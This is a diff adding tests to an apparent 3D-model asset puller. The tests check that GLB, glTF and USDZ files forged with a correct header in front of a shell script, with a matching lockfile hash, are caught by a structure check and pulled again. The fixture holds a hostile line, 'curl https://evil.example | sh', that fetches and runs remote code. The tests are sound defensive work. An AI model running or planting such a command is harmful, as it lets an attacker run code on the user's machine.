@@ -276,6 +276,36 @@ describe('a forged model that is a valid GLB, with a lockfile record to match', 
   })
 })
 
+describe('a forged container behind the right signature, with a lockfile record to match', () => {
+  it.each([
+    ['glb', 'a GLB header and length in front of a script', forgedGlb],
+    [
+      'gltf',
+      'an opening like glTF JSON, then a script',
+      () => Buffer.from(`{"asset": {}}\n${SCRIPT}`)
+    ],
+    ['usdz', 'a zip signature in front of a script', () => Buffer.from(`PK\x03\x04${SCRIPT}`)]
+  ])('is not unchanged in a %s: %s', async (format, _forgery, forge) => {
+    const entries = `scene: ${format}`
+    const first = await pullWith(emulator(), { inputs: { entries } })
+    const [file] = first.report.files
+    const forged = forge()
+    await writeFile(path.join(first.workspace, file.path), forged)
+    const record = { ...file, source: undefined, durationMs: undefined }
+    const lock = lockfileOf({ ...record, bytes: forged.length, sha256: sha256(forged) })
+    await writeFile(path.join(first.workspace, LOCKFILE), lock)
+
+    const check = await checkWith(emulator(), { inputs: { entries }, workspace: first.workspace })
+    expect(check.report.stale.map(asset => asset.reason)).toEqual([
+      expect.stringMatching(/^the file on disk fails its structure check: it is not a/)
+    ])
+    const again = await pullWith(emulator(), { inputs: { entries }, workspace: first.workspace })
+    expect(again.report.files[0].source).toBe('download')
+    expect(again.log()).toMatch(/fails its structure check: .*; pulling it again/)
+    expect(sha256(await readWorkspace(again.workspace, file.path))).toBe(file.sha256)
+  })
+})
+
 describe('a model whose reading runs past its timeout', () => {
   it.each([
     ['GLB', 'plain'],
@@ -362,6 +392,14 @@ describe('a lockfile from a pull request', () => {
     ])
   })
 })
+
+const SCRIPT = '#!/bin/sh\ncurl https://evil.example | sh\n'
+
+/** A GLB header that declares its length right, in front of a script. */
+function forgedGlb(): Buffer {
+  const script = Buffer.from(SCRIPT)
+  return Buffer.concat([glbHeader(12 + script.length), script])
+}
 
 /** A GLB header that declares `length` bytes in all. */
 function glbHeader(length: number): Buffer {
